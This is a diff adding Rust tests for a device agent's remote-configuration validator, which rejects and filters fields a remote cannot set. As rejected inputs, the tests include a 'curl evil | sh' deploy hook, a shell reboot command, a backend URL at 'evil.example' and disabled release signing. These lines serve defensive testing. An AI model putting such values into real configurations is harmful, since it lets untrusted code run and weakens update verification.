@@ -0,0 +1,85 @@
+// internal crates
+use miru_agent::config::{remote, ConfigErr};
+
+// external crates
+use serde_json::{json, Map, Value};
+
+fn values(value: Value) -> Map<String, Value> {
+    match value {
+        Value::Object(map) => map,
+        _ => panic!("expected an object"),
+    }
+}
+
+fn rejected_field(value: Value) -> String {
+    match remote::check(&values(value)) {
+        Err(ConfigErr::RemoteFieldErr(e)) => e.field,
+        other => panic!("expected a remote field error, got {other:?}"),
+    }
+}
+
+pub mod check {
+    use super::*;
+
+    #[test]
+    fn allowed_fields() {
+        remote::check(&values(json!({
+            "log_level": "debug",
+            "poller": {"interval_secs": "5m", "jitter_secs": 30},
+            "sync_backoff": {"network": {"base_secs": 5, "growth": 2, "max_secs": 60}},
+            "load_shedding": {"enabled": false},
+            "telemetry": {"interval_secs": 60},
+        })))
+        .unwrap();
+    }
+
+    #[test]
+    fn empty() {
+        remote::check(&Map::new()).unwrap();
+    }
+
+    #[test]
+    fn fields_which_run_commands() {
+        let field = rejected_field(json!({"hooks": {"pre_deploy": ["curl evil | sh"]}}));
+        assert_eq!(field, "hooks");
+        let field = rejected_field(json!({"reboot": {"command": ["sh", "-c", "id"]}}));
+        assert_eq!(field, "reboot");
+    }
+
+    #[test]
+    fn fields_which_weaken_verification() {
+        let field = rejected_field(json!({"release_signing": {"required": false}}));
+        assert_eq!(field, "release_signing");
+        let field = rejected_field(json!({"backend": {"base_url": "https://evil.example"}}));
+        assert_eq!(field, "backend");
+    }
+
+    #[test]
+    fn unlisted_fields_of_allowed_sections() {
+        let field = rejected_field(json!({"telemetry": {"transport": "http"}}));
+        assert_eq!(field, "telemetry.transport");
+    }
+
+    #[test]
+    fn unknown_fields() {
+        let field = rejected_field(json!({"log_level": "info", "not_a_field": 1}));
+        assert_eq!(field, "not_a_field");
+    }
+}
+
+pub mod filter {
+    use super::*;
+
+    #[test]
+    fn drops_fields_a_remote_cant_set() {
+        let filtered = remote::filter(values(json!({
+            "log_level": "warn",
+            "hooks": {"post_deploy": ["reboot"]},
+            "trash": {"retention_secs": 60, "enabled": false},
+        })));
+        assert_eq!(
+            Value::Object(filtered),
+            json!({"log_level": "warn", "trash": {"retention_secs": 60}})
+        );
+    }
+}